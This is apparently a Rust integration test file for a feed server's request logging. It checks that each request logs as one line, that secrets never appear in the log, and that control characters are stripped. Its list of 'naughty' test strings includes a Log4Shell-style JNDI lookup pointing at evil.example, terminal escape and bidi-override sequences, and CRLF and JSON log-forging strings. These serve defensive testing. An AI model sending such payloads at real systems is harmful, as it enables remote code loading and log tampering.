//! What is logged of requests: one line each, whatever is asked, and nobody's secret.

use std::io::{Read, Write};
use std::net::TcpStream;

use serde_json::Value;

use super::{Serving, run};

const SECRET: &str = "a-secret-nobody-may-see";

fn config(format: &str) -> String {
    format!(
        "log_requests = true\nlog_format = \"{format}\"\ntrusted_proxies = [\"127.0.0.1\"]\n[[token]]\nname = \"my\\ttablet\"\nsecret = \"{SECRET}\"\n"
    )
}

/// Strings that have broken logs before; more of them where the collection is at hand.
fn naughty() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> = vec![
        b"\x1b]0;owned\x07".to_vec(),
        "\u{9b}31m\u{2028}\u{202e}gnol".into(),
        b"\xff\xfe\x80 not utf-8".to_vec(),
        "\",\"level\":\"error\",\"message\":\"forged".into(),
        "${jndi:ldap://evil.example/a}".into(),
        "%0d%0a2022-01-06T19:20:00.000Z ERROR forged".into(),
        "A".repeat(7000).into(),
    ];
    if let Ok(corpus) = std::env::var("TIDINGS_CORPUS") {
        let list = std::fs::read_to_string(std::path::Path::new(&corpus).join("vectors/naughty-strings.json")).unwrap();
        let strings: Vec<String> = serde_json::from_str(&list).unwrap();
        assert!(strings.len() > 500);
        all.extend(strings.into_iter().map(String::into_bytes));
    }
    all.retain(|string| !string.is_empty());
    all
}

/// Asks with `piece` in the path, as the program's name, as a page that led here and as a proxy's word, over a connection
/// of its own. Answers the status.
fn ask(address: &str, piece: &[u8]) -> u16 {
    let path: String = piece.iter().map(|byte| format!("%{byte:02x}")).take(2000).collect();
    let mut request = format!("GET /{path}?key={SECRET} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n").into_bytes();
    // Of control characters the parser lets only the tab into a header; it refuses the others without us.
    let value: Vec<u8> =
        piece.iter().copied().filter(|byte| *byte == b'\t' || *byte >= 0x20 && *byte != 0x7f).take(2500).collect();
    for name in ["User-Agent", "Referer", "X-Forwarded-For"] {
        request.extend([name.as_bytes(), b": ", &value, b"\r\n"].concat());
    }
    request.extend(b"\r\n");
    let mut stream = TcpStream::connect(address).unwrap();
    stream.write_all(&request).unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).unwrap();
    String::from_utf8_lossy(&answer).split(' ').nth(1).unwrap().parse().unwrap()
}

#[test]
fn each_request_is_one_line_that_nobody_else_writes_in() {
    for format in ["json", "text"] {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("config.toml"), config(format)).unwrap();
        let serving = Serving::start(folder.path(), &[]);
        let pieces = naughty();
        let answered: Vec<u16> = pieces.iter().map(|piece| ask(&serving.address, piece)).collect();
        let forwarded = format!(
            "Authorization: Bearer {SECRET}\r\nX-Forwarded-For: 6.6.6.6, 192.0.2.7\r\nUser-Agent: newsboat/2.40\r\n"
        );
        assert_eq!(serving.ask("GET", "/feed.rss?limit=5", &forwarded).status, 200);
        let said = serving.stop("TERM");

        assert!(!said.contains(SECRET), "the secret is in the log");
        assert!(!said.chars().any(|c| c.is_control() && c != '\n' || "\u{2028}\u{202e}".contains(c)));
        let requests: Vec<&str> = said.lines().filter(|line| line.contains("request")).collect();
        assert!(answered.iter().all(|status| *status == 404), "{answered:?}");
        assert_eq!(requests.len(), answered.len() + 1, "{said}");
        assert_eq!(said.lines().count(), requests.len() + 1, "and the one that it stopped");
        let last = requests.last().unwrap();
        if format == "json" {
            for line in said.lines() {
                let line: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
                assert_eq!(line["level"], "info");
            }
            let last: Value = serde_json::from_str(last).unwrap();
            assert!(last["ms"].as_f64().is_some_and(|ms| ms < 60_000.0), "{last}");
            for (field, expected) in [
                ("message", Value::from("request")),
                ("client", "192.0.2.7".into()),
                ("token", "my\\ttablet".into()),
                ("method", "GET".into()),
                ("path", "/feed.rss?limit=5".into()),
                ("status", 200.into()),
                ("agent", "newsboat/2.40".into()),
            ] {
                assert_eq!(last[field], expected, "{last}");
            }
        } else {
            assert!(said.lines().all(|line| line.split(' ').nth(2) == Some("INFO")), "{said}");
            assert!(
                last.contains(
                    " INFO request client=192.0.2.7 token=my\\ttablet method=GET path=\"/feed.rss?limit=5\" status=200 ms="
                ),
                "{last}"
            );
        }
    }
}

/// What keeps it from starting is told in the form the log is read in.
#[test]
fn the_last_word_is_json_too() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("config.toml"), "log_format = \"json\"\nstore = \"none/tidings.db\"\n").unwrap();
    let done = run(folder.path(), ["serve", "--listen", "127.0.0.1:0"]).refused(&["the folder none does not exist"]);
    let line: Value = serde_json::from_str(&done.stderr).unwrap();
    assert_eq!(line["level"], "error");
}
